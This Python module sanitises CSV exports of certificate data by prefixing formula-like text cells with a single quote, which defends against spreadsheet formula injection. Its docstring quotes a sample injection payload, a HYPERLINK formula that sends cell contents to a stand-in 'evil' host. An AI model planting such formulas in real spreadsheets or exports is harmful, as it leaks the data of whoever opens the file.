"""CSV cells that a spreadsheet cannot run.

Auditors open certscope's CSV files (the inventory, the evidence package) in Excel or LibreOffice,
which evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and treat a
leading tab or carriage return the same way after trimming. Certificate fields come from servers
certscope does not control: a SAN of ``=HYPERLINK("http://evil/?"&A1)`` must arrive as text. As
the OWASP "CSV Injection" guidance advises, such a text cell is prefixed with a single quote,
which spreadsheets show as text and do not display. Numbers are written as numbers: a negative
``days_left`` is data, not a formula, and only text can carry one.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

#: first characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> object:
    """``value`` made safe for a CSV cell: text that could start a formula gets a leading
    ``'``; ``None`` becomes an empty cell; numbers and booleans pass unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def dict_rows(fieldnames: Sequence[str], rows: Iterable[Mapping[str, object]]) -> str:
    """Rows as CSV text with a header, every cell passed through :func:`cell`."""
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=fieldnames, lineterminator="\n")
    w.writeheader()
    for row in rows:
        w.writerow({k: cell(v) for k, v in row.items()})
    return buf.getvalue()
